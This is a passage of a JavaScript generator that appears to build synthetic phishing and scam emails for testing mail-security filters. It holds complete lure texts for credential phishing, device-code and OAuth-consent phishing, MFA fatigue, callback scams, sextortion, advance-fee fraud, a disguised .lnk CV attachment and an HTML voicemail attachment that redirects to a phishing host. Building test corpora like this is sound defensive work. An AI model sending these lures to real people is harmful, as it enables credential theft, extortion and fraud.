        'outlook-verify.example',
      ]);
      const text = `Password Expiry Notice\n\nThe password for ${v.email} expires today.\n\nKeep your current password: https://${host}/?email=${encodeURIComponent(v.email)}\n\nIf no action is taken you will be logged out of Outlook, Teams and OneDrive.\n\nIT Support, ${ORG}`;
      const html = `<div style="font-family:Segoe UI,Arial;font-size:14px"><p><b>Password Expiry Notice</b></p><p>The password for <b>${v.email}</b> expires today.</p><p><a href="https://${host}/?email=${encodeURIComponent(v.email)}">Keep current password</a></p><p style="color:#666">If no action is taken you will be logged out of Outlook, Teams and OneDrive.</p><p>IT Support, ${ORG}</p></div>`;
      return build(r, {
        from: addr(
          r.pick(['IT Support', 'Microsoft 365 Admin', 'corp.example Helpdesk']),
          `it.helpdesk@corp.example`,
        ),
        auth: spoofed(r, 'corp.example', 'mail.fastdeliver.test'),
        relay: relayFor(r, 'fastdeliver.test'),
        to: to(v),
        subject: r.pick([`Password expiry notice for ${v.email}`, 'Your password expires today']),
        text,
        html,
      });
    },
  },
  {
    name: 'sharepoint-compromised-supplier',
    kind: 'shared-doc-legit-hosting',
    make: (r) => {
      const sup = r.pick([
        ['Aroma do Atlântico Lda', 'aromadoatlantico.pt', 'aromadoatlantico'],
        ['Iberia Hotel Supplies SL', 'iberiahotelsupplies.es', 'iberiahotelsupplies'],
        ['Lusolimpa Serviços de Limpeza', 'lusolimpa.pt', 'lusolimpa'],
      ]);
      const c = someone(r, sup[1].endsWith('.es') ? 'es' : 'pt');
      const local = `${c.first.toLowerCase()}.${c.last.toLowerCase()}`
        .normalize('NFD')
        .replace(/[\u0300-\u036f]/g, '');
      const url = `https://${sup[2]}-my.sharepoint.com/:b:/g/personal/${local.replace('.', '_')}_${sup[1].replace(/\./g, '_')}/E${alnum(r, 40)}?e=${alnum(r, 6)}`;
      const html = `<html><body style="font-family:Segoe UI,Arial"><table width="520" style="border:1px solid #ddd;padding:18px"><tr><td>
<p style="font-size:18px">${esc(c.name)} shared a file with you</p>
<p>${esc(r.pick(['Please see the updated statement of account and remittance details.', 'Purchase order and price list 2025 — please review.', 'Invoice documents for payment']))}</p>
<p style="border:1px solid #eee;padding:10px">📄 <b>${esc(r.pick(['Statement_of_Account', 'Remittance_Advice', 'PO_Price_List_2025']))}.pdf</b></p>
<p><a href="${esc(url)}" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#777">This link will work for anyone. Microsoft respects your privacy.</p></td></tr></table></body></html>`;
      return build(r, {
        from: addr(`${c.name} (via SharePoint Online)`, `no-reply@sharepointonline.com`),
        replyTo: addr(c.name, `${local}@${sup[1]}`),
        auth: passes('sharepointonline.com'),
        relay: RELAYS.microsoft(r),
        to: r.pick([ROLE_BOXES.ap, ROLE_BOXES.purchasing, to(finance(r))]),
        subject: `${c.name} shared "${r.pick(['Statement_of_Account', 'Remittance_Advice', 'Documents'])}" with you`,
        html,
      });
    },
  },
  {
    name: 'google-docs-comment-mention',
    kind: 'shared-doc-legit-hosting',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'pt', 'es']));
      const doc = `1${alnum(r, 43)}`;
      const v = staffIn(r);
      const text = `${c.name} mentioned you in a comment in the following document\n\n${r.pick(['Rate agreement 2025 - signed', 'Group contract - final version', 'Event BEO + deposit invoice'])}\n\n${c.name}: @${v.email} please review the pending invoice and sign in to approve payment here https://${r.pick(['docs-approval.example', 'secure-office-365.test', 'invoice-review-portal.com'])}/${alnum(r, 10)}\n\nOpen: https://docs.google.com/document/d/${doc}/edit?disco=AAAA${alnum(r, 8)}&usp=comment_email_document\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\nYou have received this email because you are mentioned in this thread.`;
      return build(r, {
        from: addr(`${c.name} (Google Docs)`, 'comments-noreply@docs.google.com'),
        auth: passes('docs.google.com', 'doclist.bounces.google.com', 'google.com'),
        relay: RELAYS.google(r),
        to: to(v),
        subject: `Document shared with you: "${r.pick(['Rate agreement 2025', 'Group contract', 'Pending invoice'])}"`,
        text,
      });
    },
  },
  {
    name: 'wetransfer-lookalike-po',
    kind: 'file-transfer-lure',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'pt']));
      const dom = r.pick(['wetransfer-download.net', 'we-transfers.app', 'wetransfer.files-secure.test']);
      const l = compose({
        brand: 'WeTransfer',
        color: '#17181a',
        title: `${c.first.toLowerCase()}@${r.pick(['gmail.com', 'outlook.com'])} sent you files`,
        paras: [
          `${int(r, 2, 6)} items, ${int(r, 4, 90)} MB in total · Expires in ${int(r, 1, 7)} days`,
          r.pick([
            'Purchase order + specifications',
            'Photos from the event',
            'Final contract and floor plan',
          ]),
        ],
        button: { label: 'Get your files', url: `https://${dom}/downloads/${hex(r, 32)}/${hex(r, 6)}` },
        footer: ['To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.'],
      });
      return build(r, {
        from: addr('WeTransfer', `noreply@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: to(staffIn(r)),
        subject: `${c.first} sent you files via WeTransfer`,
        html: l.html,
      });
    },
  },
  {
    name: 'teams-device-code',
    kind: 'device-code-phish',
    make: (r) => {
      const v = staffIn(r);
      const code = `${upper(r, 4)}${upper(r, 5)}`.replace(/[0-9]/g, 'K').slice(0, 9);
      const c = someone(r, r.pick(['en', 'pt']));
      const from = `${c.first.toLowerCase()}.${c.last.toLowerCase()}@${r.pick(['stayevents-partners.com', 'lusotravel-consult.com'])}`;
      const text = `Hi ${v.name.split(' ')[0]},\n\nAs discussed, here is the secure Teams meeting for the ${r.pick(['contract review', 'group allotment', 'corporate rate'])} discussion. Our tenant requires device verification for external guests.\n\n1. Go to https://microsoft.com/devicelogin\n2. Enter the code: ${code}\n3. Sign in with your work account to join.\n\nThe code is valid for 15 minutes, so please join as soon as you can.\n\nThanks,\n${c.name}`;
      return build(r, {
        from: addr(c.name, from),
        auth: ownDomain(r, domainOf(from)),
        relay: RELAYS.microsoft(r),
        to: to(v),
        subject: r.pick([
          'Teams meeting – verification code',
          'Join the secure meeting',
          'Meeting link as discussed',
        ]),
        text,
      });
    },
  },
  {
    name: 'oauth-consent-app',
    kind: 'oauth-consent',
    make: (r) => {
      const v = staffIn(r);
      const client = `${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}`;
      const redirect = encodeURIComponent(
        `https://${r.pick(['docsign-viewer.app', 'secure-reader.example', 'filepreview365.com'])}/auth/callback`,
      );
      const url = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${client}&response_type=code&redirect_uri=${redirect}&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&state=${hex(r, 12)}`;
      const html = `<div style="font-family:Segoe UI,Arial;font-size:14px;max-width:540px"><p>${esc(v.name.split(' ')[0])},</p><p>${r.pick(['A secure document has been shared with you by Finance.', 'You have a pending remittance advice.', 'New HR document requires your acknowledgement.'])}</p><p><a href="${esc(url)}" style="background:#0078d4;color:#fff;padding:9px 18px;text-decoration:none">View in Secure Reader</a></p><p style="color:#777;font-size:11px">Secure Reader for Microsoft 365</p></div>`;
      const dom = r.pick(['securereader-mail.com', 'docs-notify.example']);
      return build(r, {
        from: addr(r.pick(['Secure Reader', 'Finance Documents', 'HR Portal']), `no-reply@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.sendgrid(r),
        to: to(v),
        subject: r.pick([
          'Secure document shared with you',
          'Remittance advice',
          'Action required: document acknowledgement',
        ]),
        html,
      });
    },
  },
  {
    name: 'it-mfa-push-approve',
    kind: 'mfa-fatigue',
    make: (r) => {
      const v = staffIn(r);
      const from = r.pick([
        `it.helpdesk@corp.example`,
        `servicedesk.casaalbufeira@${r.pick(['outlook.com', 'gmail.com'])}`,
      ]);
      const text = r.pick([
        `Hello ${v.name.split(' ')[0]},\n\nWe are migrating all accounts to the new Microsoft Authenticator policy tonight. Over the next hour you will receive several approval requests on your phone — please approve them all so that your mailbox is not locked.\n\nIf you are asked for a number, reply to this email with the number shown on your screen.\n\nThank you,\nIT Service Desk`,
        `Hi, this is ${r.pick(['Nuno', 'Pedro from IT', 'the IT team'])}. We are fixing the Opera sync and need you to accept the Authenticator notification that will pop up now. Just tap Approve. Thanks!`,
      ]);
      return build(r, {
        from: addr('IT Service Desk', from),
        auth: from.endsWith('corp.example')
          ? spoofed(r, 'corp.example', 'smtp.massmail.test')
          : freeAuth(from),
        relay: from.endsWith('corp.example') ? relayFor(r, 'massmail.test') : RELAYS.microsoft(r),
        to: to(v),
        subject: r.pick([
          'MFA migration tonight – please approve',
          'Authenticator request',
          'IT: approve the prompt',
        ]),
        text,
      });
    },
  },
  {
    name: 'callback-antivirus-renewal',
    kind: 'callback-scam',
    make: (r) => {
      const phone = `+1 (${int(r, 800, 888)}) ${digits(r, 3)}-${digits(r, 4)}`;
      const brand = r.pick(['Norton 360 Deluxe', 'McAfee Total Protection', 'Geek Squad Protection']);
      const amt = money(r, 289, 499);
      const inv = `INV${digits(r, 8)}`;
      const pdf = onePagePdf([
        'INVOICE',
        `Invoice no: ${inv}`,
        `Product: ${brand} (5 devices, 3 years)`,
        `Amount charged: EUR ${amt}`,
        'Payment method: auto-debit',
        `If you did not authorise this charge, call billing support: ${phone}`,
      ]);
      const c = someone(r, 'us');
      const from = freemail(r, c.name, 'us');
      const text = `Dear Customer,\n\nThank you for renewing your ${brand} subscription. Your account has been charged EUR ${amt} and the invoice is attached.\n\nIf you did not make this purchase or wish to cancel and get a refund, please call our billing department within 24 hours at ${phone}.\n\nRegards,\nBilling Department`;
      return build(r, {
        from: addr(r.pick([`${brand.split(' ')[0]} Billing`, 'Billing Support']), from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: to(staffIn(r)),
        subject: r.pick([
          `Your order ${inv} has been processed`,
          'Subscription renewed successfully',
          `Invoice ${inv}`,
        ]),
        text,
        attachments: chance(r, 0.7)
          ? [{ type: 'application/pdf', name: `${inv}.pdf`, content: pdf }]
          : undefined,
      });
    },
  },
  {
    name: 'paypal-invoice-abuse-callback',
    kind: 'callback-scam',
    make: (r) => {
      const phone = `+1 ${int(r, 800, 888)} ${digits(r, 3)} ${digits(r, 4)}`;
      const amt = money(r, 399, 899);
      const merchant = r.pick(['Crypto Exchange Services', 'Billing Dept LLC', 'Online Support Center']);
      const l = compose({
        brand: 'PayPal',
        color: '#003087',
        title: `${merchant} sent you an invoice for €${amt} EUR`,
        paras: [
          `Note from seller: Your PayPal account has been charged for Bitcoin purchase. If you did not authorise this transaction call PayPal support at ${phone} to cancel within 24 hours.`,
        ],
        rows: [
          ['Invoice number', `${int(r, 1000, 9999)}`],
          ['Amount due', `€${amt} EUR`],
          ['Due date', 'On receipt'],
        ],
        button: { label: 'View and pay invoice', url: `https://www.paypal.com/invoice/p/#${upper(r, 16)}` },
        footer: ['PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg'],
      });
      return build(r, {
        from: addr(`${merchant} via PayPal`, 'invoicing@paypal.com'),
        auth: passes('paypal.com'),
        relay: { host: `mx${int(r, 1, 9)}.phx.paypal.com`, ip: ipLike(r, '173.0.84') },
        to: to(staffIn(r)),
        subject: `Invoice from ${merchant} (${int(r, 1000, 9999)})`,
        ...l,
      });
    },
  },
  {
    name: 'sextortion-bitcoin',
    kind: 'extortion',
    make: (r) => {
      const v = staffIn(r);
      const btc = `bc1q${alnum(r, 38)}`;
      const text = `Hello!\n\nI have to share bad news with you. Approximately a few months ago I have gained access to your devices, which you use for internet browsing. After that, I have started tracking your internet activities.\n\nI made a video showing you (through your camera) satisfying yourself. With just one click I can send this video to all your contacts, including your colleagues at ${ORG}.\n\nTransfer $${int(r, 1100, 1900)} in Bitcoin to my wallet: ${btc}\n\nAfter receiving the payment I will delete the video. You have ${r.pick(['48', '50', '72'])} hours. I have a special pixel in this email, and right now I know you have read it.\n\nDo not try to reply, this address is generated.`;
      return build(r, {
        from: addr(v.email, v.email),
        auth: spoofed(r, 'corp.example', `${alnum(r, 6)}.example`),
        relay: relayFor(r, `${alnum(r, 6)}.test`),
        to: to(v),
        subject: r.pick([
          'Your account is hacked',
          `${v.email.split('@')[0]}: I know your secret`,
          'Payment for silence',
        ]),
        text,
      });
    },
  },
  {
    name: 'advance-fee-inheritance',
    kind: 'advance-fee',
    make: (r) => {
      const v = staffIn(r);
      const last = v.name.split(' ').slice(-1)[0];
      const from = `barr.${r.pick(['williams', 'okafor', 'duncan'])}.chambers${int(r, 1, 99)}@${r.pick(['gmail.com', 'yahoo.com', 'outlook.com'])}`;
      const text = `Dear ${last},\n\nI am Barrister ${r.pick(['David Williams', 'James Okafor', 'Robert Duncan'])}, personal attorney to late Engr. ${r.pick(['Manuel', 'Antonio', 'Henry'])} ${last}, a national of your country who died in a car accident with his family in 2019. He left a deposit of US$${int(r, 5, 12)},500,000.00 with a finance house here.\n\nThe bank has issued me a notice to present the next of kin or the account will be confiscated. Since you have the same last name I seek your consent to present you as the beneficiary so that the proceeds can be paid to you. We share 50/50.\n\nReply with your full name, telephone and address for more details. This transaction is 100% risk free.\n\nYours faithfully,\nBarr. ${r.pick(['David Williams', 'James Okafor'])}`;
      return build(r, {
        from: addr('Barrister Chambers', from),
        replyTo: `${alnum(r, 8)}@${r.pick(['mail.com', 'yandex.com'])}`,
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: to(v),
        subject: r.pick(['Next of kin', 'URGENT REPLY NEEDED', `Beneficiary ${last}`]),
        text,
      });
    },
  },
  {
    name: 'job-application-lnk-zip',
    kind: 'job-application-malware',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'pt', 'es']));
      const from = freemail(r, c.name, 'en');
      const role = r.pick([
        'Front Desk Agent',
        'Sous Chef',
        'Night Auditor',
        'Revenue Analyst',
        'Housekeeping Supervisor',
      ]);
      const text = r.pick([
        `Dear Hiring Manager,\n\nI would like to apply for the ${role} position advertised on Indeed. I have ${int(r, 2, 9)} years of experience in ${r.pick(['4 and 5 star hotels', 'resorts in the Algarve', 'London hotels'])}. My CV and references are in the attached file.\n\nKind regards,\n${c.name}`,
        `Hello, please find my CV for the ${role} vacancy attached (zipped because of the size). Thank you, ${c.first}`,
      ]);
      const ext = r.pick(['zip', 'iso', 'img']);
      const name = `CV_${plain(c.name).replace(' ', '_')}.${ext}`;
      return build(r, {
        from: addr(c.name, from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: r.pick([ROLE_BOXES.jobs, ROLE_BOXES.hr]),
        subject: r.pick([`Application – ${role}`, `${role} – ${c.name}`, 'Job application']),
        text,
        attachments: [
          ext === 'zip'
            ? { type: 'application/zip', name, content: zipOf(`CV_${plain(c.last)}.pdf.lnk`) }
            : { type: 'application/octet-stream', name, content: diskImage() },
        ],
      });
    },
  },
  {
    name: 'remote-review-job-scam',
    kind: 'job-scam',
    make: (r) => {
      const v = staffIn(r);
      const from = `hr.${r.pick(['talentlink', 'hospitalityjobs', 'remotecareers'])}${int(r, 10, 99)}@${r.pick(['gmail.com', 'outlook.com'])}`;
      const text = `Hello ${v.name.split(' ')[0]},\n\nYour profile was recommended to us by a recruiter. We are ${r.pick(['HotelRank Global', 'TravelBoost Media', 'StayScore Agency'])}, a partner of major booking platforms, looking for part-time remote assistants to rate hotels online.\n\nOnly 30–60 minutes a day, earn €${int(r, 200, 500)}–€${int(r, 600, 900)} per day, paid daily. No experience needed.\n\nIf interested, please contact our HR manager on WhatsApp: +${r.pick(['44 7', '351 9', '34 6'])}${digits(r, 8)}\n\nBest regards\nRecruitment Team`;
      return build(r, {
        from: addr('Recruitment Team', from),
        auth: freeAuth(from),
        relay: RELAYS.microsoft(r),
        to: to(v),
        subject: r.pick([
          'Part-time job offer',
          'Remote position – flexible hours',
          'Are you open to a new opportunity?',
        ]),
        text,
      });
    },
  },
  {
    name: 'reply-chain-hijack-event-client',
    kind: 'thread-hijack',
    make: (r) => {
      const client = r.pick([
        ['Halden Pharma', 'haldenpharma.com'],
        ['Norvik Consulting', 'norvikconsulting.co.uk'],
        ['Meridia Capital', 'meridiacapital.eu'],
      ]);
      const c = someone(r, 'en');
      const v = r.pick(STAFF.filter((x) => /Events|Sales/.test(x.role)));
      const d0 = when(r);
      const link = `https://${r.pick(['sharedocs-secure.com', 'filestorage-cloud.net', `${alnum(r, 6)}.test`])}/dl/${alnum(r, 12)}?f=${encodeURIComponent(`${client[0].replace(' ', '_')}_Contract_Signed.zip`)}`;
      const text = [
        `Hi ${v.name.split(' ')[0]},`,
        '',
        r.pick([
          `Apologies for the delay. Please find the signed contract and the updated attendee list here: ${link}`,
          `As requested, see the revised BEO and payment confirmation: ${link}\nPassword for the file: ${int(r, 100, 999)}${upper(r, 2)}`,
        ]),
        '',
        'Let me know if you need anything else.',
        '',
        c.name,
        ...quote(addr(v.name, v.email), d0, [
          `Dear ${c.first},`,
          '',
          `Thank you for choosing ${prop(r).name} for your ${r.pick(['sales kick-off', 'board retreat', 'product launch'])}. Attached is the contract for the ${int(r, 20, 120)} room nights and the meeting room hire.`,
          'Could you please return it signed together with the deposit confirmation?',
          '',
          'Best regards,',
          v.name,
        ]),
      ].join('\n');
      return build(r, {
        from: addr(c.name, `${c.first.toLowerCase()}.${c.last.toLowerCase()}@${client[1]}`),
        auth: compromised(client[1]),
        relay: RELAYS.microsoft(r),
        to: to(v),
        subject: `RE: ${client[0]} – ${r.pick(['contract', 'event contract & deposit', 'BEO final'])}`,
        text,
        headers: [
          `In-Reply-To: <${hex(r, 16)}@corp.example>`,
          `References: <${hex(r, 16)}@corp.example>`,
          `Thread-Index: A${alnum(r, 22)}==`,
        ],
        date: addDays(d0, int(r, 2, 20)),
      });
    },
  },
  {
    name: 'invoice-pdf-link-portal',
    kind: 'pdf-link-credential',
    make: (r) => {
      const sup = r.pick(['Gourmet Foods Distribution', 'Atlantic Linen Rental', 'ProClean Hotel Services']);
      const dom = r.pick(['invoices-portal-docs.com', 'secure-billing-view.net', 'einvoice.docview.test']);
      const inv = `${upper(r, 3)}-${digits(r, 6)}`;
      const link = `https://${dom}/view/${inv}?id=${hex(r, 16)}`;
      const pdf = onePagePdf(
        [
          sup,
          `Invoice ${inv}`,
          `Amount due: EUR ${money(r, 900, 14000)}`,
          'This document is protected.',
          'Click here to view the full invoice online',
        ],
        { link },
      );
      const c = someone(r, 'en');
      const from = `accounts@${dom}`;
      return build(r, {
        from: addr(`${sup} Accounts`, from),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([ROLE_BOXES.ap, to(finance(r))]),
        subject: r.pick([`Overdue invoice ${inv}`, `Invoice ${inv} – reminder`, 'Outstanding payment']),
        text: `Hello,\n\nPlease find attached invoice ${inv}, which is now overdue. Kindly arrange payment or let us know of any query.\n\nRegards,\n${c.name}\n${sup}`,
        attachments: [{ type: 'application/pdf', name: `Invoice_${inv}.pdf`, content: pdf }],
      });
    },
  },
  {
    name: 'mfa-reenrol-qr-pdf',
    kind: 'qr-code-credential',
    make: async (r) => {
      const v = staffIn(r);
      const url = `https://${r.pick(['mfa-corpexample.com', 'authenticator-setup.example', 'aka-ms-mfa.net'])}/enroll?u=${Buffer.from(v.email).toString('base64')}`;
      const pdf = onePagePdf(
        [
          'Microsoft 365 – Multi-Factor Authentication',
          `User: ${v.email}`,
          'Your authentication method must be re-registered before the deadline.',
          'Scan the QR code with your phone camera to continue.',
        ],
        { jpeg: await qrJpeg(url) },
      );
      return build(r, {
        from: addr(
          'Microsoft 365 Security',
          r.pick([
            'security-noreply@corp.example',
            `noreply@${r.pick(['m365-security-center.com', 'secure-auth.test'])}`,
          ]),
        ),
        auth: spoofed(r, 'corp.example', 'relay.bulkmailer.test'),
        relay: relayFor(r, 'bulkmailer.test'),
        to: to(v),
        subject: r.pick([
          'Action Required: MFA re-registration',
          `${v.name.split(' ')[0]}, secure your account`,
          'Authenticator update – deadline today',
        ]),
        text: `Hello ${v.name},\n\nYour MFA settings are due for re-registration. Please open the attached document and follow the instructions.\n\nMicrosoft 365 Security`,
        attachments: [
          { type: 'application/pdf', name: `MFA_Reregistration_${v.name.split(' ')[0]}.pdf`, content: pdf },
        ],
      });
    },
  },
  {
    name: 'staff-benefits-qr-inline',
    kind: 'qr-code-credential',
    make: async (r) => {
      const v = staffIn(r);
      const url = `https://${r.pick(['casaalbufeira-benefits.com', 'staffperks-portal.example', 'hr-benefits.corpexample.net'])}/s/${alnum(r, 8)}`;
      const l = compose({
        brand: `${ORG} – People & Culture`,
        color: '#7a3e1d',
        greeting: `Dear ${v.name.split(' ')[0]},`,
        paras: [
          r.pick([
            'Enrolment for the 2025 staff benefits (health insurance, meal card top-up and hotel discounts) closes this Friday.',
            'Your annual salary review letter is now available. Please confirm receipt.',
          ]),
          'Scan the QR code below with your phone and sign in with your work account.',
        ],
        image: 'qr1',
        sign: ['People & Culture Team'],
      });
      return build(r, {
        from: addr(
          'People & Culture',
          `hr-noreply@${r.pick(['casaalbufeira-people.com', 'corpexample-hr.net'])}`,
        ),
        auth: ownDomain(r, 'casaalbufeira-people.com'),
        relay: RELAYS.sendgrid(r),
        to: to(v),
        subject: r.pick([
          'Benefits enrolment closes Friday',
          'Your salary review letter',
          'HR: action required',
        ]),
        html: l.html,
        attachments: [{ type: 'image/png', name: 'qr.png', content: await qrPng(url), cid: 'qr1' }],
      });
    },
  },
  {
    name: 'voicemail-html-attachment',
    kind: 'voicemail-html-redirect',
    make: (r) => {
      const v = staffIn(r);
      const caller = `+351 ${int(r, 21, 29)}${digits(r, 7)}`;
      const target = `https://${r.pick(['voice-msg365.com', 'vm-playback.example', 'audio-msg.test'])}/play/?u=${encodeURIComponent(v.email)}`;
      const vmDomain = r.pick(['corp.example', 'cloud-pbx-notify.com']);
      const page = `<html><head><meta http-equiv="refresh" content="0;url=${target}"></head><body><script>window.location.href="${target}"</script>Loading voicemail...</body></html>`;
      const html = `<div style="font-family:Segoe UI,Arial"><p><b>You received a new voice message</b></p><table><tr><td>From:</td><td>${caller}</td></tr><tr><td>Duration:</td><td>00:0${int(r, 1, 9)}:${int(r, 10, 59)}</td></tr><tr><td>Received:</td><td>${shortDate(when(r))}</td></tr></table><p>Open the attachment to listen.</p></div>`;
      return build(r, {
        from: addr('Voicemail Service', `voicemail@${vmDomain}`),
        auth:
          vmDomain === 'corp.example'
            ? spoofed(r, 'corp.example', 'cloud-pbx-notify.com')
            : ownDomain(r, vmDomain),
        relay: relayFor(r, 'cloud-pbx-notify.com'),
        to: to(v),
        subject: `New voicemail from ${caller}`,
        html,
        attachments: [{ type: 'text/html', name: `VM_${digits(r, 6)}.htm`, content: Buffer.from(page) }],
      });
    },
  },
  {
    name: 'docusign-lookalike-rates',
    kind: 'esign-lookalike',
    make: (r) => {
      const dom = r.pick(['docusign-envelopes.net', 'docusign.secure-sign.test', 'dsign-review.com']);
      const c = someone(r, 'en');
      const l = compose({
        brand: 'DocuSign',
        color: '#1e4ca1',
        title: `${c.name} sent you a document to review and sign.`,
        paras: [
          r.pick([
            'Corporate Rate Agreement 2025 – please sign',
            'Group Contract – final',
            'Payment Authorisation Form',
          ]),
        ],
        button: {
          label: 'REVIEW DOCUMENT',
          url: `https://${dom}/Signing/EmailStart.aspx?a=${hex(r, 32)}&etti=24&acct=${hex(r, 16)}`,
        },
        footer: [
          'Do Not Share This Email',
          'This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.',
        ],
      });
      return build(r, {
        from: addr(`${c.name} via DocuSign`, `dse@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: to(staffIn(r)),
        subject: `Please DocuSign: ${r.pick(['Corporate_Rate_Agreement_2025.pdf', 'Group_Contract.pdf', 'Payment_Authorisation.pdf'])}`,
        ...l,
      });
    },
  },
  {
    name: 'open-redirect-review-score',
    kind: 'open-redirect',
    make: (r) => {
      const p = prop(r);
      const land = `https://${r.pick(['partner-review-center.com', 'bookings-scorecheck.net', 'extranet.review-hub.test'])}/${p.hotelId}`;
      const url = r.pick([
        `https://www.google.com/url?q=${encodeURIComponent(land)}&sa=D&usg=AOvVaw${alnum(r, 22)}`,
        `https://l.facebook.com/l.php?u=${encodeURIComponent(land)}&h=AT${alnum(r, 20)}`,
        `https://www.bing.com/ck/a?!&&p=${hex(r, 40)}&u=a1${Buffer.from(land).toString('base64url')}`,
      ]);
      const dom = r.pick(['guestreview-notify.com', 'partner-scores.example']);
      const html = `<html><body style="font-family:Arial"><p style="font-size:18px;color:#003580"><b>Your review score dropped</b></p><p>${esc(p.name)} received ${int(r, 3, 9)} new negative reviews this week. Your review score dropped to <b>${int(r, 5, 6)}.${int(r, 0, 9)}</b> and your property is now at risk of losing Preferred Partner status.</p><p><a href="${esc(url)}">See the reviews and respond</a></p><p style="color:#888;font-size:11px">Partner Performance Team</p></body></html>`;
      return build(r, {
        from: addr('Partner Performance', `performance@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.mailgun(r),
        to: r.pick([box(p), ROLE_BOXES.revenue]),
        subject: r.pick(['Your review score dropped', 'Preferred Partner status at risk']),
        html,
      });
    },
  },
  {
    name: 'canva-share-credential',
    kind: 'shared-doc-legit-hosting',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'pt']));
      const design = `DAF${alnum(r, 8)}`;
      const l = compose({
        brand: 'Canva',
        color: '#7d2ae8',
        title: `${c.name} shared a design with you`,
        paras: [
          `"${r.pick(['Remittance Advice – Casa Albufeira', 'Proposal 2025 – Partnership', 'Invoice Payment Details'])}"`,
          r.pick(['Please review the attached remittance.', 'View document below.']),
        ],
        button: {
          label: 'Open design',
          url: `https://www.canva.com/design/${design}/${alnum(r, 22)}/view?utm_content=${design}&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton`,
        },
        footer: ['Canva Pty Ltd, 110 Kippax St, Surry Hills NSW 2010, Australia'],
      });
      return build(r, {
        from: addr(`${c.name} via Canva`, 'no-reply@canva.com'),
        auth: passes('canva.com', 'mail.canva.com'),
        relay: RELAYS.amazonses(r),
        to: to(staffIn(r)),
        subject: `${c.name} shared a design with you`,
        ...l,
      });
    },
  },
  {
    name: 'mailbox-quota-broken-english',
    kind: 'mailbox-quota',
    make: (r) => {
      const v = staffIn(r);
      const host = r.pick([
        `${alnum(r, 6)}.ipfs.dweb.link`,
        `mail-upgrade-${alnum(r, 4)}.test`,
        'webmail-quota.example',
      ]);
      const html = `<p>Dear ${esc(v.email)}</p><p>Your Mailbox has exceeded the storage limit 99.8GB/100GB. you will not be able to send or receive new mails until you re-validate your mailbox.</p><p>To re-validate <a href="https://${host}/?e=${esc(v.email)}">CLICK HERE</a> and login to increase your quota.</p><p>Failure to do this will result to lost of your mail and account closed within 24hrs.</p><p>Thanks<br>System Administrator<br>corp.example</p>`;
      const from = `${alnum(r, 7)}@${r.pick(['uni-mail.test', 'hostmail.invalid'])}`;
      return build(r, {
        from: addr('Mail Administrator', from),
        auth: spoofed(r, domainOf(from), domainOf(from)),
        relay: relayFor(r, domainOf(from)),
        to: to(v),
        subject: r.pick(['Mailbox Full !!!', `Re-validate ${v.email}`, 'Storage limit warning']),
        html,
      });
    },
  },
  {
    name: 'domain-renewal-notice',
    kind: 'domain-renewal-scam',
    make: (r) => {
      const dom = r.pick([
        'domain-registry-services.com',
        'web-domain-listing.net',
        'dns-renewal-center.test',
      ]);
      const l = compose({
        title: 'DOMAIN SERVICE EXPIRATION NOTICE',
        paras: [
          `Domain: ${r.pick(['casaalbufeira.pt', 'corp.example', 'casaalbufeira-hotels.com'])}`,
          'Your domain search engine listing subscription expires today. Failure to complete your renewal may result in loss of online visibility, making it difficult for guests to find your hotel.',
          `Secure payment: https://${dom}/renew?ref=${digits(r, 7)}`,
          'This is not a bill. This notice is a courtesy offer for SEO submission.',
        ],
      });
      return build(r, {
        from: addr('Domain Service', `notice@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([to(IT), ROLE_BOXES.marketing]),
        subject: r.pick(['Final notice: domain expiration', 'Domain renewal – action required']),
        ...l,
      });
    },
  },
  {
    name: 'overpayment-group-booking',
    kind: 'overpayment-scam',
    make: (r) => {
      const p = prop(r);
      const c = someone(r, r.pick(['us', 'en']));
      const from = freemail(r, c.name, 'us');
      const rooms = int(r, 8, 20);
      const text = r.pick([
        `Good day,\n\nI want to book ${rooms} rooms for my team of construction workers coming to ${p.city} from ${longDate(addDays(when(r), 20))} for ${int(r, 10, 21)} nights. Please send me the total cost. I will make the payment with my credit card.\n\nAlso our travel agent will take care of the transport and you will need to help me pay her from the card, I will add the amount to the total and you send it to her by bank transfer. She does not accept card.\n\nAwaiting your quick reply,\n${c.name}`,
        `Hello Sir/Madam,\nkindly send availability and rate for ${rooms} room for group from ${p.city} Conference. payment by card. After payment you will transfer the extra €${int(r, 1500, 4500)} to our logistic agent for the bus. urgent reply\nRegards ${c.name}`,
      ]);
      return build(r, {
        from: addr(c.name, from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: box(p),
        subject: r.pick(['Group Reservation', `Booking for ${rooms} rooms`, 'Room reservation inquiry']),
        text,
      });
    },
  },
  {
    name: 'copyright-photos-malware',
    kind: 'copyright-claim-malware',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'fr', 'de']));
      const from = freemail(r, c.name, 'en');
      const link = r.pick([
        `https://sites.google.com/view/${alnum(r, 10)}/images`,
        `https://${r.pick(['photoproof-files.com', 'evidence-docs.net'])}/claims/${alnum(r, 10)}`,
        `https://firebasestorage.googleapis.com/v0/b/${alnum(r, 8)}.appspot.com/o/Copyright_Evidence.zip?alt=media`,
      ]);
